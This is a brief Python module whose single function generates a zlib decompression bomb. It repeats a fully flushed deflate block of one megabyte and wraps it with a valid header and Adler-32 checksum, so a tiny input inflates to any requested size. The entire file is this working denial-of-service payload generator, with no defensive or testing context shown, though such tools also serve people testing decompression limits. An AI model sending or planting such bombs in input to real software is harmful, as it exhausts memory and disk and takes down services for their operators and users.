"""Little that inflates to much: a decompression bomb, made in milliseconds."""

from __future__ import annotations

import zlib

_MEGABYTE = 1 << 20


def bomb(megabytes: int, byte: bytes = b" ") -> bytes:
    """What zlib inflates to so many megabytes of one byte. RFC 1950 and 1951.

    After a full flush a block refers to nothing before it, so the same block may follow any number of times.
    """
    text = byte * _MEGABYTE
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = packer.compress(text) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = 1
    for _ in range(megabytes):
        checksum = zlib.adler32(text, checksum)
    return b"\x78\xda" + block * megabytes + b"\x03\x00" + checksum.to_bytes(4, "big")
